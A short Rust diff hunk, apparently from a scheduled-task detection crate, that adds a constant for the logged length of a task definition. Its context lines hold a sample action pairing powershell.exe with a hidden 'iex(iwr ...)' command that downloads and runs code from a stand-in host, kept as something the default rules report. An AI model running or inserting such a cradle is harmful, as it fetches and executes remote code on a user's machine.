@@ -6,6 +6,9 @@ pub use schtag_properties::fuel::{PARTS, Part, allowed, exec, record};
 /// An action that the default rules report by itself.
 pub const PLAIN: (&str, &str) = ("powershell.exe", "-nop -w hidden iex(iwr http://x.example/a)");
 
+/// The most characters of a definition that Windows logs, about.
+pub const LOGGED: usize = 3_400;
+
 /// Words that some step looks for, or that make it look again.
 pub const WORDS: [&str; 104] = [
     "a",
